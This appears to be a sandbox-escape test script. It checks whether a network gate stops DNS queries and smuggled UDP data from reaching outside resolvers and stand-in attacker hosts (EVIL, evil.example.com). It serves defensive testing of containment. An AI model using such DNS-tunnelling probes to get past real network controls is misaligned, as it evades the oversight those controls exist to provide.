# SPDX-License-Identifier: Apache-2.0
# Trick: a name server of one's own choice, over UDP
# Gain: an answer that the gate didn't give, a tunnel that it doesn't see
from trick import *

for server in ("8.8.8.8", "1.1.1.1", EVIL, EVIL6, "11.0.0.1", "224.0.0.251", "11.0.0.2"):
    if addresses(ask(question("evil.example.com"), server, wait=0.2))[0]:
        escaped(f"{server} answered")
    ask(b"brig-smuggled" * 20, server, wait=0.05)
    ask(question("evil.example.com"), server, 5353, 0.05)
stopped("nobody but the gate answers")
